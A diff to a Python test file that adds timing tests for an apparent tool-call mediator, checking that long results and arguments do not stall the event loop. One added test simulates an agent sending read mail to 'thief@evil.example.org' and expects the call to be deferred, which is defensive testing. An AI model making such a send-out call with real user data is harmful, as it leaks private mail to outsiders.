@@ -14,8 +14,10 @@ from remit.core.errors import Conflict, Fenced, StoreUnavailable
 from remit.core.event import EventKind
 from remit.core.mediation import Chunk, ChunkKind
 from remit.ports.store import RaiseLabel, Unit
+from remit.services.turns import Turns
 from tests.call_world import Heard
 from tests.flow_world import FlowWorld, chain, flow_world, full_disk
+from tests.world import RunningClock
 
 SALARY = {"name": "Ann", "salary": 5000}
 
@@ -179,8 +181,14 @@ async def test_errors_and_what_is_not_json_are_known_too(world: FlowWorld, body:
     assert "result of call 1" in chain(decision)["to"]
 
 
+def let_time_pass(world: FlowWorld) -> None:
+    """Let each look at the clock take time, as work does."""
+    world.house.mediator._parts.observer.turns = Turns(RunningClock())
+
+
 async def test_a_long_result_does_not_hold_up_others(world: FlowWorld) -> None:
     """While a long result is taken in, the loop goes round, and nothing of it is released yet."""
+    let_time_pass(world)
     rows = [{"id": n, "mail": f"p{n}@example.org"} for n in range(5_000)]
     world.office.answers["read_mail"] = rows
     await world.open("Summarise my mail")
@@ -194,8 +202,33 @@ async def test_a_long_result_does_not_hold_up_others(world: FlowWorld) -> None:
     assert turns > 20
 
 
+@pytest.mark.parametrize(
+    "body",
+    [
+        "http://[::1]/" * 4_000,
+        "\ufdfa" * 12_000,
+        "lorem ipsum " * 60_000,
+        [{"at": f"row {n}"} for n in range(1_000)],
+    ],
+    ids=["one long word", "letters that are words", "words", "rows"],
+)
+async def test_a_long_argument_does_not_hold_up_others(world: FlowWorld, body: Any) -> None:
+    """While it is found out where its values came from, the loop goes round."""
+    let_time_pass(world)
+    await world.open("Summarise my mail")
+    await world.run("read_mail", folder="inbox")
+    call = asyncio.create_task(world.call("send_mail", to="thief@evil.example.org", body=body))
+    turns = 0
+    while not call.done():
+        turns += 1
+        await asyncio.sleep(0)
+    assert (await call).outcome is Outcome.DEFER
+    assert turns > 20
+
+
 async def test_a_call_that_is_cut_while_its_result_is_taken_in_releases_nothing(world: FlowWorld) -> None:
-    """The fence is looked at between the slices and after them."""
+    """The fence is looked at between the turns and after them."""
+    let_time_pass(world)
     rows = [{"id": n, "mail": f"p{n}@example.org"} for n in range(5_000)]
     world.office.answers["read_mail"] = rows
     await world.open("Summarise my mail")
